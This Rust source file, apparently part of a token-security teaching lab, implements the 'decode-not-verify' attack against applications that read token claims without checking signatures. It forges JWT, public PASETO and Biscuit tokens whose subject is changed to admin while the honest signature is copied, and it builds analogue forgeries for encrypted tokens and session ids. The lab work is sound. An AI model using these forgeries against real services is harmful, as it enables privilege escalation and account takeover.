//! Decode instead of verify: the claims are read, and nobody asks who wrote them.
//!
//! The flawed assumption: what can be read is true. Every token library has a
//! function that shows what a token says, for finding its key or for a log, and
//! it has the simpler name. An application that calls it in the place of the
//! other one works, until somebody edits a token. RFC 8725 §3.3 demands that
//! every cryptographic operation is validated.
//!
//! The format is no help where the claims stand in the open: a public PASETO and
//! a Biscuit can be read as well as a signed JWT. What is encrypted can't be
//! read without the key, and the id of a session says nothing.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::Value;
use tokenlab_harness::decode::{self, Part};

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::biscuit::{self, Message, Value as Field};
use crate::card::AttackProfile;
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::{Purpose, Scheme, Version};
use crate::stand_in::{analogues, paseto_with_body};
use crate::weakness::Weakness;

pub(super) struct DecodeNotVerify;

static PROFILE: AttackProfile = AttackProfile {
    id: "decode-not-verify",
    title: "Decoded and not verified",
    assumption: "What a token says can be believed once it can be read.",
    class: AttackClass::Signature,
    given: &[],
    isolated: false,
    breaks: &[Weakness::DecodedOnly],
    references: &[
        (
            "RFC 8725 §3.3",
            "Every cryptographic operation is validated, and the token refused if one fails.",
        ),
        (
            "RFC 7519 §7.2",
            "Validating a JWT means validating the JWS or JWE that it is.",
        ),
        (
            "Rust jsonwebtoken, dangerous::insecure_decode",
            "The function says in its name what it does not do; static analysers look for it.",
        ),
        (
            "PortSwigger Web Security Academy",
            "Its first lab on JWT is a server that does not verify the signature.",
        ),
        (
            "Biscuit, UnverifiedBiscuit",
            "A type of its own for tokens that are read without the root key.",
        ),
    ],
    lesson: include_str!("../../lessons/decode-not-verify.md"),
};

/// The edit, wherever the claims stand in the open.
const VARIANT: &str = "claims-edited";

impl Attack for DecodeNotVerify {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        match view.scheme() {
            Scheme::Jwt(_) => edited(notes, jwt(view)?),
            Scheme::Paseto(version, Purpose::Public) => edited(notes, public(view, version)?),
            Scheme::Biscuit => edited(notes, authority(view)?),
            Scheme::Paseto(version, Purpose::Local) => Err(CannotForge::Inexpressible {
                why: "a local PASETO can't be read without the key that also authenticates it".into(),
                tried: analogues(
                    notes,
                    "the claims stand in the open where the ciphertext was, since nobody could read that",
                    [(VARIANT, EDIT_SEALED, local(view, version)?)],
                ),
            }),
            Scheme::Jwe(..) => Err(CannotForge::Inexpressible {
                why: "a JWE can't be read without the key that also decrypts it".into(),
                tried: analogues(
                    notes,
                    "the claims stand in the open where the ciphertext was, since nobody could read that",
                    [(VARIANT, EDIT_SEALED, jwe(view)?)],
                ),
            }),
            Scheme::Session(_) => Err(CannotForge::Inexpressible {
                why: "the id of a session says nothing that could be read".into(),
                tried: analogues(
                    notes,
                    "the claims themselves take the place of the id, which has none",
                    [(
                        "claims-as-id",
                        "Sends the claims, in which the subject is admin, for an id.",
                        mint::part(mint::jwt_payload(view.wanted())?),
                    )],
                ),
            }),
        }
    }
}

const EDIT_SEALED: &str = "Writes the claims in the open where the ciphertext was, with admin for the subject, and leaves the rest.";

fn edited(notes: &mut Notebook, token: String) -> Result<Vec<Forgery>, CannotForge> {
    notes.variant_step(
        VARIANT,
        "Edits the claims of her honest token, in which the subject becomes admin, and leaves the signature as it is.",
        token.as_str(),
    );
    Ok(vec![Forgery::new(VARIANT, token)])
}

fn jwt(view: &AttackerView<'_>) -> Result<String, CannotForge> {
    let mut parts = view.sample().split('.');
    let header = parts
        .next()
        .and_then(|header| URL_SAFE_NO_PAD.decode(header).ok())
        .and_then(|header| String::from_utf8(header).ok())
        .unwrap_or_else(|| Value::Object(view.sample_header()).to_string());
    let signature = Signature::Copied(parts.nth(1).unwrap_or_default().to_owned());
    let payload = mint::jwt_payload(view.wanted())?;
    Ok(mint::jws_of(&header, payload.as_bytes(), &signature)?)
}

fn public(view: &AttackerView<'_>, version: Version) -> Result<String, CannotForge> {
    let parts = decode::decode(view.sample()).parts;
    let mut body = mint::paseto_payload(view.wanted())?.into_bytes();
    body.extend(bytes(&parts, "signature"));
    Ok(paseto_with_body(
        view,
        &format!("{}.public.", version.name()),
        &body,
    ))
}

fn local(view: &AttackerView<'_>, version: Version) -> Result<String, CannotForge> {
    let parts = decode::decode(view.sample()).parts;
    let mut body = bytes(&parts, "nonce").to_vec();
    body.extend(mint::paseto_payload(view.wanted())?.into_bytes());
    body.extend(bytes(&parts, "tag"));
    Ok(paseto_with_body(
        view,
        &format!("{}.local.", version.name()),
        &body,
    ))
}

fn jwe(view: &AttackerView<'_>) -> Result<String, CannotForge> {
    let payload = mint::part(mint::jwt_payload(view.wanted())?);
    let mut parts: Vec<&str> = view.sample().split('.').collect();
    match parts.get_mut(3) {
        Some(ciphertext) => *ciphertext = &payload,
        None => return Err(CannotForge::Failed("the sample token is no JWE".into())),
    }
    Ok(parts.join("."))
}

/// A block of her own under the honest token's signature.
fn authority(view: &AttackerView<'_>) -> Result<String, CannotForge> {
    let signature = Message::of_token(view.sample())
        .as_ref()
        .and_then(|sample| Message::read(sample.bytes(biscuit::AUTHORITY)?))
        .and_then(|block| Some(block.bytes(biscuit::SIGNATURE)?.to_vec()));
    signature
        .and_then(|signature| {
            view.biscuit_by_own_key()
                .ok()?
                .changed_within(biscuit::AUTHORITY, |block| {
                    block.with(biscuit::SIGNATURE, Field::Bytes(signature))
                })
        })
        .map(|message| message.to_token())
        .ok_or_else(|| CannotForge::Failed("the sample token is no biscuit".into()))
}

fn bytes<'a>(parts: &'a [Part], name: &str) -> &'a [u8] {
    parts
        .iter()
        .find(|part| part.name == name)
        .map_or(&[], |part| part.bytes.as_slice())
}
